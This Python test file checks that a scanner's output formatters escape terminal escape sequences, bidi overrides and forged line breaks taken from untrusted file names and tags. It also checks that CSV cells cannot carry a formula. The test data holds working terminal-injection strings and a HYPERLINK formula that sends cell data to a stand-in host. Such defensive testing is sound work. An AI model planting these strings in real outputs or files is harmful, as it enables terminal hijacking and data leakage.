"""SPEC §9: control characters from the scanned tree never reach any output raw.

File names, addresses, tag values and parse messages come from untrusted
files. Every output format (scan: text, json, sarif, junit, github, gitlab,
html; inventory: text, json, csv, html) must write them so that no terminal
escape sequence, bell, bidirectional override or forged line break gets
through; the JSON formats must still hold the same values.
"""

from __future__ import annotations

import json
from typing import Callable

import pytest

from sovlint.engine import ScanResult
from sovlint.formatters import FORMATTERS, formatter
from sovlint.inventory import render_inventory
from sovlint.model import ScanError
from scan_results import build_result, parse_failure, resource

#: ESC (a colour and a window title), BEL, NUL, DEL, C1 CSI, bidi override, line separator,
#: zero-width space, backspace, vertical tab.
HOSTILE = "\x1b[31mred\x1b]0;pwned\x07\x00\x7f\x9b2J\u202eevil\u2028\u200b\x08\x0b"
RAW = set(HOSTILE) - set("[31mred]0;pwned2Jevil")


def _result() -> ScanResult:
    path = f"infra/{HOSTILE}.tf"
    bucket = resource(f"aws_s3_bucket.{HOSTILE}", "aws_s3_bucket", path, 3, provider="aws",
                      region="us-east-1", country="US", exposures=("US-CLOUD-Act",),
                      tags={"owner": HOSTILE})
    broken = parse_failure(f"k8s/{HOSTILE}.yaml", 2, f"invalid YAML: {HOSTILE}")
    return build_result([bucket, broken], errors=[ScanError(path, f"module source {HOSTILE!s} not found", 4)])


RENDERERS: dict[str, Callable[[ScanResult], str]] = {
    **{f"scan {name}": (lambda name: lambda result: formatter(name)(result, {"command": "scan"}))(name)
       for name in FORMATTERS},
    **{f"inventory {name}": (lambda name: lambda result: render_inventory(result, name, {"color": False}))(name)
       for name in ("text", "json", "csv", "html")},
}


@pytest.mark.parametrize("name", list(RENDERERS))
def test_no_raw_control_character_in_any_format(name: str) -> None:
    result = _result()
    assert result.findings and result.errors  # the hostile text is in findings, errors, resources
    text = RENDERERS[name](result)
    assert "red" in text or "pwned" in text  # the text is there, made visible
    leaked = sorted({f"U+{ord(c):04X}" for c in text if c in RAW})
    assert leaked == [], f"{name}: raw {leaked}"


@pytest.mark.parametrize("name", ["scan json", "scan sarif", "scan gitlab", "inventory json"])
def test_json_formats_keep_the_values(name: str) -> None:
    from sovlint.normalise.documents import string_leaves

    text = RENDERERS[name](_result())
    assert any(HOSTILE in leaf for leaf in string_leaves(json.loads(text)))


def test_github_cannot_start_a_command_of_its_own() -> None:
    text = RENDERERS["scan github"](_result())
    assert all(line.startswith("::") for line in text.splitlines())
    assert "\\x1b[31mred" in text and "%0A" not in text.split("::", 2)[1]  # a forged line stays inline


def test_csv_cells_cannot_be_formulas() -> None:
    bucket = resource('=HYPERLINK("http://x.example/?"&A1)', "aws_s3_bucket", "main.tf", 1, provider="aws",
                      region="us-east-1", country="US")
    text = render_inventory(build_result([bucket]), "csv", {"color": False})
    assert '\n"\'=HYPERLINK(' in text  # quoted by csv, the formula neutralised
